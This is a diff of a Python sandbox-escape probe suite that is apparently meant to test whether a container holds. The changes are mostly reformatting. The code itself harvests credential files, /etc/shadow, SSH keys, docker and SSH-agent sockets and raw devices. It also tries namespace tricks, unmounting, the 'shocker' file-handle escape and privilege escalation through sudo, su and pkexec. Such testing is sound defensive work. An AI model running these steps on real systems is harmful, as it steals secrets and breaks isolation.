@@ -154,12 +154,21 @@ def inherited_descriptors(_targets: dict, loot: Loot) -> int:
 
 @step("look")
 def credential_files_of_the_project(_targets: dict, loot: Loot) -> int:
-    names = (".env*", "*.pem", "*.key", "service-account*.json", ".npmrc", ".pypirc", ".netrc", "credentials*.json")
+    names = (
+        ".env*",
+        "*.pem",
+        "*.key",
+        "service-account*.json",
+        ".npmrc",
+        ".pypirc",
+        ".netrc",
+        "credentials*.json",
+    )
     return sum(_take_all(loot, f"**/{name}") for name in names)
 
 
 @step("look")
-def credential_files_after_renaming_their_folder(targets: dict, loot: Loot) -> int:
+def credential_files_after_renaming_their_folder(_targets: dict, loot: Loot) -> int:
     found = 0
     for folder in ("deploy", "deploy/keys"):
         if os.path.isdir(folder):
@@ -184,7 +193,13 @@ def credential_file_by_rename(_targets: dict, loot: Loot) -> int:
 @step("look")
 def credential_file_by_other_spellings(_targets: dict, loot: Loot) -> int:
     here = os.getcwd()
-    spellings = ["./.env", "deploy/../.env", f"/proc/self/cwd/.env", f"/proc/self/root{here}/.env", "//" + here + "/.env"]
+    spellings = [
+        "./.env",
+        "deploy/../.env",
+        "/proc/self/cwd/.env",
+        f"/proc/self/root{here}/.env",
+        "//" + here + "/.env",
+    ]
     found = 0
     for path in spellings:
         try:
@@ -210,14 +225,16 @@ def unmount_what_hides_files(_targets: dict, loot: Loot) -> int:
     libc = ctypes.CDLL(None, use_errno=True)
     with open("/proc/self/mountinfo", encoding="utf-8") as file:
         points = [line.split()[4] for line in file]
-    done = sum(libc.umount2(point.encode(), 2) == 0 for point in reversed(points) if point.startswith(os.getcwd()))
+    done = sum(
+        libc.umount2(point.encode(), 2) == 0 for point in reversed(points) if point.startswith(os.getcwd())
+    )
     if not done:
         raise OSError(ctypes.get_errno(), "umount2")
     return _take_all(loot, "**/.env*")
 
 
 @step("look")
-def a_user_namespace_of_its_own(_targets: dict, loot: Loot) -> object:
+def a_user_namespace_of_its_own(_targets: dict, _loot: Loot) -> object:
     libc = ctypes.CDLL(None, use_errno=True)
     if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
         raise OSError(ctypes.get_errno(), "unshare")
@@ -234,7 +251,7 @@ def a_fresh_proc(_targets: dict, _loot: Loot) -> object:
 
 
 @step("look")
-def files_by_handle(_targets: dict, loot: Loot) -> object:
+def files_by_handle(_targets: dict, _loot: Loot) -> object:
     """The way out of containers that is called shocker: open files of a mount by inode number."""
     libc = ctypes.CDLL(None, use_errno=True)
     handle = (ctypes.c_char * 16).from_buffer_copy(
@@ -250,7 +267,14 @@ def files_by_handle(_targets: dict, loot: Loot) -> object:
 @step("look")
 def devices(_targets: dict, loot: Loot) -> int:
     found = 0
-    for path in ["/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", *glob.glob("/dev/[svx]d[a-z]*"), "/proc/kcore"]:
+    for path in [
+        "/dev/mem",
+        "/dev/kmsg",
+        "/dev/kvm",
+        "/dev/fuse",
+        *glob.glob("/dev/[svx]d[a-z]*"),
+        "/proc/kcore",
+    ]:
         if os.path.exists(path):
             with open(path, "rb") as file:
                 found += loot.add(path, file.read(4096)) or 1
@@ -265,12 +289,19 @@ def a_disk_made_by_hand(_targets: dict, loot: Loot) -> object:
 
 @step("look")
 def system_secrets(_targets: dict, loot: Loot) -> int:
-    patterns = ("/etc/shadow", "/etc/gshadow", "/etc/ssh/*_key", "/run/secrets/*", "/var/run/secrets/**", "/etc/ringfence/**")
+    patterns = (
+        "/etc/shadow",
+        "/etc/gshadow",
+        "/etc/ssh/*_key",
+        "/run/secrets/*",
+        "/var/run/secrets/**",
+        "/etc/ringfence/**",
+    )
     return sum(_take_all(loot, pattern) for pattern in patterns)
 
 
 @step("look")
-def shared_memory(targets: dict, loot: Loot) -> int:
+def shared_memory(_targets: dict, loot: Loot) -> int:
     found = _take_all(loot, "/dev/shm/*") + _take_all(loot, "/dev/mqueue/*")
     libc = ctypes.CDLL(None, use_errno=True)
     libc.shmat.restype = ctypes.c_void_p
@@ -282,7 +313,7 @@ def shared_memory(targets: dict, loot: Loot) -> int:
 
 
 @step("look")
-def host_temporary_files(targets: dict, loot: Loot) -> int:
+def host_temporary_files(_targets: dict, loot: Loot) -> int:
     return _take_all(loot, "/tmp/*") + _take_all(loot, "/var/tmp/*") + _take_all(loot, "/run/user/*/*")
 
 
@@ -299,8 +330,17 @@ def kernel_keyring(_targets: dict, loot: Loot) -> int:
 
 @step("look")
 def unix_sockets(targets: dict, _loot: Loot) -> object:
-    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"]
-    paths += [os.environ.get("SSH_AUTH_SOCK", ""), *targets.get("unix_sockets", []), *glob.glob("/tmp/*/agent.*")]
+    paths = [
+        "/var/run/docker.sock",
+        "/run/docker.sock",
+        "/run/dbus/system_bus_socket",
+        "/run/systemd/private",
+    ]
+    paths += [
+        os.environ.get("SSH_AUTH_SOCK", ""),
+        *targets.get("unix_sockets", []),
+        *glob.glob("/tmp/*/agent.*"),
+    ]
     reached = [path for path in paths if path and _connects(path)]
     reached += [name for name in targets.get("abstract_sockets", []) if _connects("\0" + name)]
     return reached
@@ -331,7 +371,12 @@ def terminal_injection(_targets: dict, _loot: Loot) -> object:
 def become_root(_targets: dict, _loot: Loot) -> object:
     for argv in (["sudo", "-n", "true"], ["su", "-c", "true"], ["pkexec", "true"]):
         try:
-            if subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=5, check=False).returncode == 0:
+            if (
+                subprocess.run(
+                    argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=5, check=False
+                ).returncode
+                == 0
+            ):
                 with open("/etc/shadow", "rb"):
                     return argv
         except (OSError, subprocess.TimeoutExpired):
@@ -344,9 +389,24 @@ def anything_readable_that_looks_like_a_secret(targets: dict, loot: Loot) -> int
     pattern = re.compile(rb"Cn[0-9a-f]{36}|PRIVATE KEY-----")
     end = time.monotonic() + 6
     found = 0
-    for top in (targets["home"], "/root", "/home", "/tmp", "/var", "/run", "/srv", "/mnt", "/opt", "/dev/shm", "/etc", "/"):
+    for top in (
+        targets["home"],
+        "/root",
+        "/home",
+        "/tmp",
+        "/var",
+        "/run",
+        "/srv",
+        "/mnt",
+        "/opt",
+        "/dev/shm",
+        "/etc",
+        "/",
+    ):
         for folder, folders, files in os.walk(top):
-            folders[:] = [name for name in folders if name not in {"proc", "sys", "usr", "lib", "node_modules", "agent"}]
+            folders[:] = [
+                name for name in folders if name not in {"proc", "sys", "usr", "lib", "node_modules", "agent"}
+            ]
             if time.monotonic() > end:
                 return found
             for name in files:
